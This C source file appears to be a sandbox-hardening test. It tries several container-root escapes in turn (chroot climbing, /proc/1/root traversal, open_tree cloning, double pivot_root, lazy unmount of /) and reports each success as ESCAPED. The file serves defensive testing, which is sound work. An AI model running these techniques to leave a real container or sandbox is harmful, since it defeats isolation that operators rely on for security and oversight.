/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Runs in a container with CAP_SYS_ADMIN and CAP_SYS_CHROOT and tries what is known to lead out of a container's root (MNT-15).
 * usage: root-escape MARK AGENT [look], where MARK is the path of a file in the agent's root, and AGENT is `DEV:INO` of its executable.
 * One line for each attempt: `NAME: what happened`; a line that begins with ESCAPED is a finding. Every attempt is made by a
 * child of its own, because most of them cannot be taken back.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *mark;
static const char *agent;

static void say(const char *name, const char *what) {
    printf("%s: %s\n", name, what);
    fflush(stdout);
}

/* Which file a path leads to. */
static int identify(int at, const char *path, char *text, size_t size) {
    struct stat state;
    if (fstatat(at, path, &state, 0) < 0)
        return -1;
    snprintf(text, size, "%llx:%llu", (unsigned long long)state.st_dev, (unsigned long long)state.st_ino);
    return 0;
}

/* Looks for the agent's things under the root `at`, by name and through every process that a /proc there shows. */
static void look(const char *name, int at, const char *proc) {
    static const char *const state_paths[] = {"run/kata-containers/sandbox", "run/kata-containers/shared",
                                              "kihon-agent", "init", "sbin/init", "witness"};
    char text[512];
    if (faccessat(at, mark + 1, F_OK, AT_SYMLINK_NOFOLLOW) == 0) {
        snprintf(text, sizeof text, "the mark of the agent's root, through %s", name);
        say("ESCAPED", text);
    }
    for (size_t i = 0; i < sizeof state_paths / sizeof *state_paths; i++) {
        if (strcmp(state_paths[i], "sbin/init") == 0 || strcmp(state_paths[i], "init") == 0)
            continue; /* an image may have its own */
        if (faccessat(at, state_paths[i], F_OK, AT_SYMLINK_NOFOLLOW) == 0) {
            snprintf(text, sizeof text, "%s, through %s", state_paths[i], name);
            say("ESCAPED", text);
        }
    }
    int proc_fd = openat(at, proc, O_RDONLY | O_DIRECTORY);
    DIR *list = proc_fd < 0 ? NULL : fdopendir(proc_fd);
    int count = 0;
    for (struct dirent *entry; list && (entry = readdir(list));) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
            continue;
        count++;
        char path[400], found[64];
        snprintf(path, sizeof path, "%s/exe", entry->d_name);
        if (identify(proc_fd, path, found, sizeof found) == 0 && strcmp(found, agent) == 0) {
            snprintf(text, sizeof text, "the agent's executable, as process %s through %s", entry->d_name, name);
            say("ESCAPED", text);
        }
        snprintf(path, sizeof path, "%s/root%s", entry->d_name, mark);
        if (faccessat(proc_fd, path, F_OK, AT_SYMLINK_NOFOLLOW) == 0) {
            snprintf(text, sizeof text, "the agent's root, as that of process %s through %s", entry->d_name, name);
            say("ESCAPED", text);
        }
    }
    DIR *names = fdopendir(openat(at, ".", O_RDONLY | O_DIRECTORY));
    size_t used = (size_t)snprintf(text, sizeof text, "%d processes in %s; here:", count, proc);
    for (struct dirent *entry; names && (entry = readdir(names));)
        if (entry->d_name[0] != '.' && used < sizeof text - 40)
            used += (size_t)snprintf(text + used, sizeof text - used, " %.30s", entry->d_name);
    say(name, text);
}

static int here(void) { return open(".", O_RDONLY | O_DIRECTORY); }

static int fail(const char *what) {
    printf("  %s: %s\n", what, strerror(errno));
    fflush(stdout);
    return -1;
}

/* The namespace's true root, once what lies over it was unmounted. */
static void lazy_unmount(void) {
    int self = open("/proc/self/ns/mnt", O_RDONLY);
    if (umount2("/", MNT_DETACH) < 0)
        fail("umount2 /");
    if (setns(self, CLONE_NEWNS) < 0)
        fail("setns own mount namespace");
    chdir("/");
    look("under /", here(), "proc");
    /* A second layer, and a procfs of our own on whatever there is. */
    if (umount2("/", MNT_DETACH) < 0)
        fail("umount2 / again");
    setns(self, CLONE_NEWNS);
    chdir("/");
    mkdir("/p", 0755);
    if (mount("proc", "/p", "proc", 0, NULL) < 0)
        fail("mount proc below /");
    look("under / again", here(), "p");
    for (int i = 0; i < 8; i++)
        chdir("..");
    look("above that", here(), "p");
}

/* The classic: a root below the working directory no longer stops `..`. */
static void climb(void) {
    mkdir("/tmp", 0755);
    mkdir("/tmp/cage", 0755);
    int outside = here();
    if (chroot("/tmp/cage") < 0)
        fail("chroot");
    fchdir(outside);
    for (int i = 0; i < 64; i++)
        chdir("..");
    if (chroot(".") < 0)
        fail("chroot .");
    chdir("/");
    look("chroot climb", here(), "proc");
}

static void climb_after_unshare(void) {
    if (unshare(CLONE_NEWNS) < 0)
        fail("unshare");
    mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL);
    int outside = here();
    mkdir("/tmp", 0755);
    mkdir("/tmp/cage", 0755);
    chroot("/tmp/cage");
    fchdir(outside);
    for (int i = 0; i < 64; i++)
        chdir("..");
    chroot(".");
    if (umount2("/", MNT_DETACH) < 0)
        fail("umount2 / in a copy");
    int self = open("/proc/self/ns/mnt", O_RDONLY);
    if (self >= 0 && setns(self, CLONE_NEWNS) < 0)
        fail("setns copy");
    chdir("/");
    look("copied namespace", here(), "proc");
}

static void first_process(void) {
    int root = open("/proc/1/root", O_RDONLY | O_DIRECTORY);
    if (root < 0) {
        fail("/proc/1/root");
        return;
    }
    fchdir(root);
    look("/proc/1/root", here(), "proc");
    for (int i = 0; i < 64; i++)
        chdir("..");
    chroot(".");
    look("above /proc/1/root", here(), "proc");
    int cwd = open("/proc/1/cwd", O_RDONLY | O_DIRECTORY);
    if (cwd >= 0 && fchdir(cwd) == 0) {
        for (int i = 0; i < 64; i++)
            chdir("..");
        look("above /proc/1/cwd", here(), "proc");
    }
}

static void proc_in_chroot(void) {
    mkdir("/tmp", 0755);
    mkdir("/tmp/jail", 0755);
    if (mount("jail", "/tmp/jail", "tmpfs", 0, NULL) < 0)
        fail("mount tmpfs");
    mkdir("/tmp/jail/proc", 0755);
    if (mount("proc", "/tmp/jail/proc", "proc", 0, NULL) < 0)
        fail("mount proc");
    if (chroot("/tmp/jail") < 0)
        fail("chroot");
    chdir("/");
    look("proc in a chroot", here(), "proc");
    int root = open("/proc/1/root", O_RDONLY | O_DIRECTORY);
    if (root >= 0) {
        fchdir(root);
        look("proc in a chroot, 1/root", root, "proc");
    }
}

/* Every mount of the namespace, by its number: what a path cannot reach, a clone of the tree might. */
static void cloned_tree(void) {
#ifdef SYS_open_tree
    int tree = (int)syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */ | O_CLOEXEC | 0x8000 /* AT_RECURSIVE */);
    if (tree < 0) {
        fail("open_tree");
        return;
    }
    fchdir(tree);
    for (int i = 0; i < 64; i++)
        chdir("..");
    look("cloned tree", here(), "proc");
#endif
}

static void pivot_twice(void) {
    if (unshare(CLONE_NEWNS) < 0)
        fail("unshare");
    mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL);
    mkdir("/tmp", 0755);
    mkdir("/tmp/new", 0755);
    mount("new", "/tmp/new", "tmpfs", 0, NULL);
    mkdir("/tmp/new/old", 0755);
    if (syscall(SYS_pivot_root, "/tmp/new", "/tmp/new/old") < 0)
        fail("pivot_root");
    chdir("/");
    int self = open("/old/proc/self/ns/mnt", O_RDONLY);
    if (umount2("/", MNT_DETACH) < 0)
        fail("umount2 / after pivot_root");
    if (self >= 0)
        setns(self, CLONE_NEWNS);
    chdir("/");
    look("under a second pivot_root", here(), "old/proc");
}

int main(int argc, char **argv) {
    if (argc < 3)
        return 2;
    mark = argv[1];
    agent = argv[2];
    if (argc > 3) { /* no attempt: shows that it would see what it looks for */
        chdir("/");
        look("here", here(), "proc");
        return 0;
    }
    void (*const attempts[])(void) = {climb,         first_process, proc_in_chroot, cloned_tree,
                                      climb_after_unshare, pivot_twice,   lazy_unmount};
    for (size_t i = 0; i < sizeof attempts / sizeof *attempts; i++) {
        pid_t child = fork();
        if (child == 0) {
            attempts[i]();
            _exit(0);
        }
        int status = 0;
        waitpid(child, &status, 0);
        if (status != 0)
            printf("attempt %zu ended with status %d\n", i, status);
    }
    say("done", "all attempts were made");
    return 0;
}
